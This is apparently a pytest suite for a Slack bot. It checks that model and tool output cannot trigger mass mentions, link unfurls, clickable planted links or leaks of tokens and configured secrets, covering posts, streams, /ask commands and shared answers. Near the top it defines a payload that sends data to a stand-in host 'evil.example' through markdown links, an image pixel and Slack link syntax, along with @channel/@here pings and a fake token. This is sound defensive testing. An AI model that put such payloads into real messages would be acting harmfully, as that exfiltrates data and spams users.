"""Whatever a model or a tool writes pings nobody, makes Slack fetch nothing, and tells no secret.

Each path by which words reach Slack is taken: a post, a stream, posts that are changed, plainer forms, `/ask`,
and an answer that is shared.
"""

from __future__ import annotations

import asyncio
import json
from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import Any

import pytest
from pydantic import SecretStr
from support.bot import Scene, bot_in_workspace
from support.cards import approve, until_asked
from support.held_tools import HeldTools
from support.openai_server import OpenAIServer, text, tool_calls
from support.patience import UNSTREAMED

from bot.playground import clickable
from bot.slack.content import ACCEPT_ACTION
from tools import Context, Elicitation, Registry, tool

Json = dict[str, Any]
Ask = Callable[[Scene, asyncio.Event], Awaitable[list[Json]]]

PLANTED = "https://evil.example/collect?data=secret"
TOKEN = "xox" + "b-1234567890-abcdefghij"
MCP_SECRET = "pens-5e4d3c2b1a"
WICKED = (
    f"Look at {PLANTED} and [here]({PLANTED}), ![pixel]({PLANTED}), <{PLANTED}|there>. "
    f"<!channel> <!here|here> <! everyone > <!subteam^S0123ABC> &lt;!here&gt; <@{{grace}}> "
    f"My token is {TOKEN}. The end."
)
# In the middle of a link, of a ping, of an escape and of a token.
BORDERS = ("https://ev", "[here](https:", "<!cha", "<!subteam^", "&lt;!h", "xoxb-12345")


async def _one_post(scene: Scene, goes_on: asyncio.Event) -> list[Json]:
    goes_on.set()
    return await _in_a_thread(scene)


async def _a_stream(scene: Scene, goes_on: asyncio.Event) -> list[Json]:
    return await _in_a_thread(scene, then=goes_on)


async def _posts_that_are_changed(scene: Scene, goes_on: asyncio.Event) -> list[Json]:
    scene.playground.without("chat.startStream")
    return await _in_a_thread(scene, then=goes_on)


async def _a_plainer_form(scene: Scene, goes_on: asyncio.Event) -> list[Json]:
    scene.playground.faults.next("chat.postMessage", times=1, error="invalid_blocks")
    return await _one_post(scene, goes_on)


async def _plain_text(scene: Scene, goes_on: asyncio.Event) -> list[Json]:
    scene.playground.faults.next("chat.postMessage", times=2, error="invalid_blocks")
    return await _one_post(scene, goes_on)


async def _a_command(scene: Scene, goes_on: asyncio.Event, question: str = "Be wicked") -> list[Json]:
    goes_on.set()
    await scene.ada.command("/ask", question, channel="#general")
    await scene.playground.until(lambda: _ending(scene.ada.ephemerals("#general")), what="the answer")
    return scene.ada.ephemerals("#general")


async def _a_shared_answer(scene: Scene, goes_on: asyncio.Event, question: str = "Be wicked") -> list[Json]:
    shown = await _a_command(scene, goes_on, question)
    assert await scene.ada.press("#general", _ending(shown)[0]["ts"], "share_answer")
    room = scene.playground.workspace.channel("#general")
    await scene.playground.until(
        lambda: any("The end." in message.text for message in room.messages.values()), what="the shared answer"
    )
    return [message for ts in room.messages for message in scene.playground.thread("#general", ts)]


WAYS: list[Ask] = [
    _one_post,
    _a_stream,
    _posts_that_are_changed,
    _a_plainer_form,
    _plain_text,
    _a_command,
    _a_shared_answer,
]
IN_ONE_PIECE = (_one_post, _a_plainer_form, _plain_text)


@pytest.mark.parametrize("ask", WAYS, ids=lambda ask: ask.__name__.strip("_"))
async def test_wicked_words_do_no_harm(tmp_path: Path, ask: Ask) -> None:
    goes_on = asyncio.Event()
    model = OpenAIServer(reply=lambda _request: text(*pieces, hold=goes_on))
    timing = UNSTREAMED if ask in IN_ONE_PIECE else None
    async with bot_in_workspace(tmp_path, model=model, timing=timing) as scene:
        pieces = _pieces(WICKED.format(grace=scene.playground.person("grace").id))
        messages = await ask(scene, goes_on)
        _assert_harmless(scene, messages)


async def test_people_of_the_thread_may_be_mentioned_and_their_links_opened(tmp_path: Path) -> None:
    link = "https://wiki.example/page"
    words = list[str]()
    model = OpenAIServer(reply=lambda _request: text(*words))
    async with bot_in_workspace(tmp_path, model=model, timing=UNSTREAMED) as scene:
        ada, grace, linus = (scene.playground.person(who) for who in ("ada", "grace", "linus"))
        words.append(f"<@{grace.id}> wrote {link} for <@{ada.id}>, and not <@{linus.id}>.")
        root = await grace.say("#general", f"See {link}", deliver=False)
        ts = await ada.say("#general", "@threadloop Who wrote that?", thread_ts=root)
        await scene.answer(ts, root=root)
        (answer,) = scene.answers(ts, root=root)
        assert {ping.target for ping in scene.playground.pings} == {ada.id, grace.id}
        assert clickable(answer) == [link]
        assert scene.playground.unfurled == []


async def test_what_a_tool_found_may_be_opened(tmp_path: Path) -> None:
    tools = HeldTools()
    tools.goes_on.set()
    found = "https://found.example/rain"
    turns = [tool_calls(("look_up", {"word": "rain"})), text(f"See {found}, not {PLANTED}.")]
    model = OpenAIServer(turns)
    async with bot_in_workspace(tmp_path, model=model, tools=tools.registry(), timing=UNSTREAMED) as scene:
        ts = await scene.ada.say("#general", "@threadloop What is rain?")
        await scene.answer(ts)
        (answer,) = scene.answers(ts)
        assert set(clickable(answer)) == {found}
        assert scene.playground.unfurled == []


async def test_a_link_of_an_earlier_answer_may_be_opened_again(tmp_path: Path) -> None:
    tools, found = HeldTools(), "https://found.example/rain"
    tools.goes_on.set()
    replies = [
        tool_calls(("look_up", {"word": "rain"})),
        text(f"See [it]({found}), not {PLANTED}."),
        text(f"Again: {found} and {PLANTED}."),
    ]
    async with bot_in_workspace(tmp_path, model=OpenAIServer(replies), tools=tools.registry()) as scene:
        root = await scene.ada.say("#general", "@threadloop What is rain?")
        await scene.answer(root)
        ts = await scene.ada.say("#general", "@threadloop where was that?", thread_ts=root)
        await scene.answer(ts, root=root)
        (answer,) = scene.answers(ts, root=root)
        assert clickable(answer) == [found]


async def test_wicked_arguments_do_no_harm_in_a_card(tmp_path: Path) -> None:
    """A card's title holds what the model wrote, its result what a tool did; long ones are cut."""
    tools, never = HeldTools(), asyncio.Event()
    word = f"<!here> {PLANTED} {TOKEN} " + f"{'x' * 100} {PLANTED} " * 3
    turns = [tool_calls(("look_up", {"word": word})), text("It ", "rains.", hold=never)]
    async with bot_in_workspace(tmp_path, model=OpenAIServer(turns), tools=tools.registry()) as scene:
        ts = await scene.ada.say("#general", "@threadloop What is this?")
        await scene.playground.until(lambda: scene.shown(ts), what="a card")
        tools.goes_on.set()
        await scene.until_shown("It", ts)
        never.set()
        await scene.answer(ts)
        assert scene.playground.pings == []
        assert TOKEN not in str(scene.shown(ts))
        assert PLANTED not in str([clickable(message) for message in scene.shown(ts)])


@pytest.mark.parametrize("ask", WAYS, ids=lambda ask: ask.__name__.strip("_"))
async def test_configured_secrets_do_not_leave(tmp_path: Path, ask: Ask) -> None:
    goes_on = asyncio.Event()
    pieces = ["Look at the key sk-test-", f"key-000000, and {MCP_SECRET}. ", "The end."]
    model = OpenAIServer(reply=lambda _request: text(*pieces, hold=goes_on))
    server = {
        "url": "http://127.0.0.1:9/mcp",
        "headers": {"Authorization": "${PENS_TOKEN:-" + MCP_SECRET + "}"},
    }
    config = tmp_path / "mcp.json"
    config.write_text(json.dumps({"mcpServers": {"pens": server}}))
    async with bot_in_workspace(tmp_path, model=model, mcp_config=config) as scene:
        said = str(await ask(scene, goes_on)) + str(scene.playground.calls)
        assert "Look at the key [redacted], and [redacted]. The end." in said
        assert "sk-test-key-000000" not in said
        assert MCP_SECRET not in said


async def test_configured_secrets_are_not_shown_on_cards(tmp_path: Path) -> None:
    secret = "tvly-9f8e7d6c5b4a"

    async def look_up(word: str, context: Context) -> str:
        """Look a word up.

        Args:
            word: the word.
        """
        assert context.elicit is not None
        await context.elicit(Elicitation(f"May I use {secret}?"))
        return word

    registry = Registry([tool(approval="always")(look_up)])
    turns = [tool_calls(("look_up", {"word": f"{secret} " * 500})), text("Done.")]
    model, key = OpenAIServer(turns), SecretStr(secret)
    async with bot_in_workspace(tmp_path, model=model, tools=registry, tavily_api_key=key) as scene:
        ts = await scene.ada.say("#general", "@threadloop Look it up")
        (card,) = await until_asked(scene, ts)
        assert 'word: "[redacted] [redacted]' in card.text
        files = [file for message in scene.shown(ts) for file in message.get("files", ())]
        assert len(files) == 1
        assert secret.encode() not in scene.playground.workspace.contents[files[0]["id"]]
        await approve(scene.ada, card)
        asked = await scene.until_shown("May I use [redacted]?", ts)
        await scene.ada.press("#general", asked["ts"], ACCEPT_ACTION)
        await scene.until_shown("Done.", ts)
        assert secret not in str(scene.shown(ts)) + str(scene.playground.calls)


async def test_a_shared_answer_keeps_the_links_of_its_question(tmp_path: Path) -> None:
    link = "https://wiki.example/page"
    model = OpenAIServer([text(f"Read {link}, not {PLANTED}. The end.")])
    async with bot_in_workspace(tmp_path, model=model) as scene:
        shown = await _a_shared_answer(scene, asyncio.Event(), f"What of {link}?")
        assert {url for message in shown for url in clickable(message)} == {link}


async def _in_a_thread(scene: Scene, *, then: asyncio.Event | None = None) -> list[Json]:
    ts = await scene.ada.say("#general", "@threadloop Be wicked")
    if then is not None:
        await scene.until_shown("Look at", ts)
        then.set()
    await scene.answer(ts)
    return scene.shown(ts)


def _assert_harmless(scene: Scene, messages: list[Json]) -> None:
    assert "The end." in str(messages)
    assert scene.playground.pings == []
    assert scene.playground.unfurled == []
    assert [url for message in messages for url in clickable(message)] == []
    assert TOKEN not in str(scene.playground.calls)
    for post in scene.calls("chat.postMessage"):
        assert (post["unfurl_links"], post["unfurl_media"]) == (False, False)
    assert not any("link_names" in call.arguments for call in scene.playground.calls)


def _pieces(words: str) -> list[str]:
    """The words, cut where it hurts most."""
    pieces = [words]
    for border in BORDERS:
        pieces = [part for piece in pieces for part in _cut_behind(piece, border)]
    return pieces


def _cut_behind(words: str, border: str) -> list[str]:
    before, found, after = words.partition(border)
    return [before + found, after] if found and after else [words]


def _ending(shown: list[Json]) -> list[Json]:
    return [message for message in shown if "The end." in message["text"]]
